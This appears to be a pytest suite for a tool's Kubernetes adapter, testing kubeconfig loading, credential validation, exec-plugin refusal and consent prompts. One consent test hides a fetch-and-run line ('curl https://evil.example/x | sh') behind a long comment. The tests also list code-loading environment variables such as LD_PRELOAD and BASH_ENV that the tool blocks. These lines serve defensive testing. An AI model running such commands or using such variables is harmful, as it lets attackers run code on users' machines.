"""Kubeconfigs as the Kubernetes adapter takes them: files, merging, users, what is refused."""

from __future__ import annotations

import base64
import os
from pathlib import Path
from typing import Any

import pytest
import yaml

from tokentui.domain.errors import ConfigError, NotSignedIn
from tokentui.domain.profile import AuthSettings
from tokentui.providers.kubernetes.access import Context, resolve
from tokentui.providers.kubernetes.exec_block import check_agreed, read_block
from tokentui.providers.kubernetes.exec_policy import check_policy
from tokentui.providers.kubernetes.kubeconfig_files import load
from tokentui.providers.kubernetes.settings import read_settings
from tokentui.providers.kubernetes.user_rules import User, read_user

SERVER = "https://api.lab.example:6443"
PEM = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
DATA = base64.b64encode(PEM.encode()).decode()
EXEC = {
    "apiVersion": "client.authentication.k8s.io/v1",
    "command": "true",
    "interactiveMode": "Never",
}


def document(name: str = "lab", **parts: Any) -> dict[str, Any]:  # noqa: ANN401
    """Give a kubeconfig of one context; `cluster`, `user` and `context` replace its bodies."""
    bodies = {
        "cluster": {"server": SERVER},
        "user": {"token": f"token-of-{name}"},
        "context": {"cluster": name, "user": name},
    } | parts
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": name,
        **{f"{part}s": [{"name": name, part: body}] for part, body in bodies.items()},
    }


def write(path: Path, content: dict[str, Any]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(content))
    return path


def context_of(folder: Path, **parts: Any) -> Context:  # noqa: ANN401
    return resolve(load(write(folder / "config", document(**parts))), "")


def refusal(folder: Path, **parts: Any) -> str:  # noqa: ANN401
    """Give the words with which a kubeconfig is refused."""
    with pytest.raises(NotSignedIn) as caught:
        read_user(context_of(folder, **parts))
    assert caught.value.next_step
    return caught.value.message


def user_of(folder: Path, **body: Any) -> User:  # noqa: ANN401
    return read_user(context_of(folder, user=body))


def test_the_profiles_own_file_is_no_list(tmp_path: Path) -> None:
    with pytest.raises(NotSignedIn, match="cannot read the kubeconfig"):
        load(Path(f"{tmp_path}/a{os.pathsep}{tmp_path}/b"))


def test_the_variable_goes_before_the_home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    write(Path.home() / ".kube" / "config", document("home"))
    assert load(None).current_context == "home"
    monkeypatch.setenv("KUBECONFIG", "")
    assert load(None).current_context == "home", "an empty variable counts as none"
    named = write(tmp_path / "named", document("named"))
    monkeypatch.setenv("KUBECONFIG", f"{tmp_path}/missing{os.pathsep}{os.pathsep}{named}")
    assert load(None).current_context == "named", "missing files and empty parts are skipped"


def test_of_one_name_the_first_file_has_it_whole(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    one = write(tmp_path / "one", document("x", user={"token": "first"}))
    two = document("x", user={"username": "second"})
    two["contexts"].append({"name": "other", "context": {"cluster": "x", "user": "x"}})
    monkeypatch.setenv("KUBECONFIG", f"{one}{os.pathsep}{write(tmp_path / 'two', two)}")
    user = resolve(load(None), "other").user
    assert dict(user.body) == {"token": "first"}, "entries are not mixed"
    assert user.file == one


def test_one_broken_file_breaks_all(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    good = write(tmp_path / "good", document())
    (tmp_path / "bad").write_text("users: {a: b}\n")
    monkeypatch.setenv("KUBECONFIG", f"{good}{os.pathsep}{tmp_path}/bad")
    with pytest.raises(NotSignedIn, match=r"bad, line 1"):
        load(None)


def test_a_folder_a_pipe_and_nothing_are_no_kubeconfigs(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path, tmp_path / "pipe"):
        with pytest.raises(NotSignedIn, match="regular file|cannot read"):
            load(path)
    with pytest.raises(NotSignedIn, match="there is no kubeconfig at"):
        load(None)


def test_there_is_no_way_to_localhost(tmp_path: Path) -> None:
    """kubectl asks http://localhost:8080 in all of these cases."""
    empty = document()
    empty["current-context"] = ""
    cases = {
        "no current context": empty,
        "no usable address": document(cluster={}),
        "names the cluster gone, which is nowhere": document(
            context={"cluster": "gone", "user": "lab"}
        ),
        "names the user gone, who is nowhere": document(context={"cluster": "lab", "user": "gone"}),
    }
    for words, content in cases.items():
        with pytest.raises(NotSignedIn, match=words):
            resolve(load(write(tmp_path / "config", content)), "")
    with pytest.raises(NotSignedIn, match="has no context other") as caught:
        resolve(load(write(tmp_path / "config", document())), "other")
    assert "lab" in caught.value.next_step


@pytest.mark.parametrize(
    ("cluster", "words"),
    [
        ({"server": "http://api.lab.example"}, "without TLS no credentials"),
        ({"server": "http://127.0.0.1:8080"}, "without TLS no credentials"),
        ({"server": "api.lab.example"}, "no usable address"),
        ({"server": "https://u:p4ss@api.example"}, "no usable address"),
        ({"server": f"{SERVER}?a=b"}, "no usable address"),
        (
            {"server": SERVER, "certificate-authority-data": DATA, "certificate-authority": "ca"},
            "both certificate-authority",
        ),
        (
            {
                "server": SERVER,
                "certificate-authority-data": DATA,
                "insecure-skip-tls-verify": True,
            },
            "insecure-skip-tls-verify",
        ),
        ({"server": SERVER, "certificate-authority-data": "%%%"}, "not base64"),
        ({"server": SERVER, "certificate-authority": "gone.pem"}, "cannot be read"),
        ({"server": SERVER, "proxy-url": "socks5://p.example:1080"}, "SOCKS"),
        ({"server": SERVER, "proxy-url": "ftp://p.example"}, "no address of a proxy"),
    ],
)
def test_a_cluster_is_refused(tmp_path: Path, cluster: dict[str, Any], words: str) -> None:
    told = refusal(tmp_path, cluster=cluster)
    assert words in told
    assert "p4ss" not in told


@pytest.mark.parametrize(
    ("user", "words"),
    [
        ({}, "has no credentials"),
        ({"token": "secret-1", "username": "a", "password": "b"}, "more than one way"),
        ({"username": "a", "password": "secret-1"}, "a user name and a password"),
        ({"auth-provider": {"name": "oidc"}}, "auth-provider"),
        ({"exec": EXEC, "auth-provider": {"name": "oidc"}}, "auth-provider"),
        ({"client-certificate-data": DATA}, "without its key"),
        (
            {"client-certificate-data": DATA, "client-certificate": "c", "client-key": "k"},
            "both client-certificate",
        ),
        (
            {"client-certificate-data": DATA, "client-key-data": DATA, "client-key": "k"},
            "both client-key",
        ),
        ({"token": "secret-1", "as-uid": "7"}, "without as"),
        ({"token": "secret-1", "as-groups": ["g"]}, "without as"),
        ({"token": "secret-1", "as-user-extra": {"a": ["b"]}}, "without as"),
        ({"token": "secret-1", "as": "mia", "as-groups": "g"}, "no list of texts"),
    ],
)
def test_a_user_is_refused(tmp_path: Path, user: dict[str, Any], words: str) -> None:
    told = refusal(tmp_path, user=user)
    assert words in told
    assert "secret-1" not in told


def test_what_is_fixed_goes_before_the_program(tmp_path: Path) -> None:
    pair = {"client-certificate-data": DATA, "client-key-data": DATA}
    assert user_of(tmp_path, exec=EXEC).exec == EXEC
    for fixed in ({"token": "t"}, {"tokenFile": "f"}, pair):
        assert user_of(tmp_path, exec=EXEC, **fixed).exec is None
    both = user_of(tmp_path, token="t", **pair)
    assert both.token is not None
    assert both.certificate is not None


def test_paths_begin_at_the_kubeconfig(tmp_path: Path) -> None:
    (tmp_path / "keys").mkdir()
    for name in ("ca", "cert", "key"):
        (tmp_path / "keys" / name).write_text(f"{name} {PEM}")
    context = context_of(
        tmp_path,
        cluster={"server": SERVER, "certificate-authority": "keys/ca"},
        user={"client-certificate": "keys/cert", "client-key": str(tmp_path / "keys" / "key")},
    )
    user = read_user(context)
    assert context.cluster.ca_pem.startswith("ca ")
    assert user.certificate is not None
    assert user.certificate.reveal().startswith("cert ")
    assert user.key is not None
    assert user.key.reveal().startswith("key ")


def test_somebody_else_is_named_in_headers(tmp_path: Path) -> None:
    user = user_of(
        tmp_path,
        **{
            "token": "t",
            "as": "mia",
            "as-uid": "7",
            "as-groups": ["dev", "ops"],
            "as-user-extra": {"acme.example/Team": ["x", "y"]},
        },
    )
    assert user.headers == {
        "Impersonate-User": "mia",
        "Impersonate-Uid": "7",
        "Impersonate-Group": ("dev", "ops"),
        "Impersonate-Extra-acme.example%2FTeam": ("x", "y"),
    }


def test_the_id_of_a_server_is_the_same_for_each_way_to_write_it(tmp_path: Path) -> None:
    ids = {
        context_of(tmp_path, cluster={"server": server}).cluster.id
        for server in (
            "https://API.lab.example",
            "https://api.lab.example:443/",
            "https://api.lab.example./",
        )
    }
    assert ids == {"https://api.lab.example"}
    rancher = context_of(tmp_path, cluster={"server": "https://r.example/k8s/clusters/c-1/"})
    assert rancher.cluster.server == "https://r.example/k8s/clusters/c-1", "a path is kept"


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"apiVersion": "client.authentication.k8s.io/v1alpha1"}, "v1alpha1"),
        ({"apiVersion": None}, r"\(none\)"),
        ({"interactiveMode": None}, "interactiveMode"),
        ({"interactiveMode": "Sometimes"}, "interactiveMode"),
        ({"interactiveMode": "Always"}, "needs a terminal"),
        ({"command": None}, "names no command"),
        ({"command": "no-such-program-anywhere"}, "is not there"),
        ({"command": "./no-such-program"}, "is not there"),
        ({"args": "text"}, "args that are no texts"),
        ({"env": [{"name": "LD_PRELOAD", "value": "x.so"}]}, "loads other code"),
        ({"env": [{"name": "BASH_FUNC_ls%%", "value": "() { :; }"}]}, "loads other code"),
        ({"env": [{"value": "x"}]}, "no list of names and values"),
    ],
)
def test_a_program_is_refused(tmp_path: Path, change: dict[str, Any], words: str) -> None:
    block = {key: value for key, value in (EXEC | change).items() if value is not None}
    context = context_of(tmp_path, user={"exec": block})
    with pytest.raises(NotSignedIn, match=words):
        read_block(read_user(context), context)


def test_a_hint_is_told_without_its_escape_codes(tmp_path: Path) -> None:
    block = EXEC | {"command": "no-such-program", "installHint": "\x1b[31mget it at x.example"}
    context = context_of(tmp_path, user={"exec": block})
    with pytest.raises(NotSignedIn) as caught:
        read_block(read_user(context), context)
    assert "get it at x.example" in caught.value.next_step
    assert "\x1b" not in caught.value.sentence


def test_a_beta_plugin_needs_no_mode(tmp_path: Path) -> None:
    beta = {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": "true"}
    context = context_of(tmp_path, user={"exec": beta})
    assert read_block(read_user(context), context).api_version == beta["apiVersion"]


def test_a_relative_program_is_beside_the_kubeconfig(tmp_path: Path) -> None:
    program = tmp_path / "bin" / "login"
    program.parent.mkdir()
    program.write_text("#!/bin/sh\n")
    program.chmod(0o700)
    context = context_of(tmp_path, user={"exec": EXEC | {"command": "bin/login"}})
    assert read_block(read_user(context), context).program == str(program)


@pytest.mark.parametrize(
    "name",
    [
        *("BASH_ENV", "ENV", "PATH", "PYTHONPATH", "PYTHONSTARTUP"),
        *("NODE_OPTIONS", "PERL5OPT", "RUBYOPT"),
    ],
)
def test_a_variable_that_brings_other_code_is_refused(tmp_path: Path, name: str) -> None:
    block = EXEC | {"env": [{"name": name, "value": "/tmp/other"}]}
    context = context_of(tmp_path, user={"exec": block})
    with pytest.raises(NotSignedIn, match=f"sets {name}, which loads other code"):
        read_block(read_user(context), context)


def consent(folder: Path, change: dict[str, Any]) -> NotSignedIn:
    """Give what is said when consent is asked for."""
    context = context_of(folder, user={"exec": EXEC | change})
    user = read_user(context)
    with pytest.raises(NotSignedIn) as caught:
        check_agreed(read_block(user, context), user, "")
    return caught.value


def test_consent_shows_the_end_of_long_words(tmp_path: Path) -> None:
    """A comment of 200 characters would hide what the shell then runs."""
    script = "# " + "get-token --cluster shop " * 20 + "\ncurl https://evil.example/x | sh"
    names = [f"{letter * 60}" for letter in "ABC"]
    env = [{"name": name, "value": "x"} for name in names]
    said = consent(tmp_path, {"args": ["-c", script, "two words"], "env": env}).sentence
    assert r"shop \ncurl https://evil.example/x | sh" in said, "the line end is seen"
    assert '"two words"' in said, "one argument is not two"
    assert all(name in said for name in names)


def test_what_is_too_long_to_show_cannot_be_agreed_to(tmp_path: Path) -> None:
    context = context_of(tmp_path, user={"exec": EXEC | {"args": ["x" * 2001]}})
    user = read_user(context)
    told = consent(tmp_path, {"args": ["x" * 2001]})
    assert "more words than the 2000 characters that can be shown" in told.message
    assert "exec_allowed" not in told.sentence
    block = read_block(user, context)
    with pytest.raises(NotSignedIn, match="2000 characters"):
        check_agreed(block, user, block.mark)


def test_consent_is_for_exactly_one_program(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    env = [{"name": "CORP_SECRET", "value": "hidden-value"}]
    agreed = EXEC | {"args": ["login", "--cluster"], "env": env}
    others: list[dict[str, Any]] = [
        {"args": ["login"]},
        {"env": [{"name": "CORP_SECRET", "value": "other"}]},
        {"provideClusterInfo": True},
        {"interactiveMode": "IfAvailable"},
    ]
    context = context_of(tmp_path, user={"exec": agreed})
    user = read_user(context)
    block = read_block(user, context)
    with pytest.raises(NotSignedIn) as caught:
        check_agreed(block, user, "")
    told = caught.value.sentence
    assert f"{block.program} login --cluster" in told
    assert "CORP_SECRET" in told
    assert "hidden-value" not in told
    assert f"exec_allowed: '{block.mark}'" in told
    check_agreed(block, user, block.mark)
    for change in others:
        context = context_of(tmp_path, user={"exec": agreed | change})
        with pytest.raises(NotSignedIn, match="is not the one"):
            check_agreed(read_block(read_user(context), context), user, block.mark)
    shadow = tmp_path / "shadow" / "true"
    shadow.parent.mkdir()
    shadow.write_text("#!/bin/sh\n")
    shadow.chmod(0o700)
    monkeypatch.setenv("PATH", f"{shadow.parent}{os.pathsep}{os.environ['PATH']}")
    context = context_of(tmp_path, user={"exec": agreed})
    assert read_block(user, context).mark != block.mark, "another program of that name"


@pytest.mark.parametrize(
    ("kuberc", "words"),
    [
        ({}, ""),
        ({"credentialPluginPolicy": "AllowAll"}, ""),
        ({"credentialPluginPolicy": "DenyAll"}, "lets no sign-in programs run"),
        ({"credentialPluginPolicy": "Allowlist"}, "does not list"),
        (
            {
                "credentialPluginPolicy": "Allowlist",
                "credentialPluginAllowlist": [{"command": "true"}],
            },
            "",
        ),
        (
            {
                "credentialPluginPolicy": "Allowlist",
                "credentialPluginAllowlist": [{"name": "other"}],
            },
            "does not list",
        ),
        ({"credentialPluginPolicy": "Whatever"}, "unknown"),
    ],
)
def test_a_stricter_policy_of_kubectl_holds(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, kuberc: dict[str, Any], words: str
) -> None:
    context = context_of(tmp_path, user={"exec": EXEC})
    block = read_block(read_user(context), context)
    write(Path.home() / ".kube" / "kuberc", kuberc)
    if not words:
        check_policy(block)
        return
    with pytest.raises(NotSignedIn, match=words):
        check_policy(block)
    monkeypatch.setenv("KUBERC", "off")
    check_policy(block)


def test_settings_are_checked() -> None:
    auth = AuthSettings("kubeconfig", {})
    assert read_settings({}, auth, "profile a").namespaces == ()
    settings = read_settings({"namespaces": ("build", "ci", "build")}, auth, "profile a")
    assert settings.namespaces == ("build", "ci")
    with pytest.raises(ConfigError, match="no name of a namespace"):
        read_settings({"namespaces": ("Build!",)}, auth, "profile a")
    with pytest.raises(ConfigError, match=r"auth\.method"):
        read_settings({}, AuthSettings("env", {"variable": "X"}), "profile a")
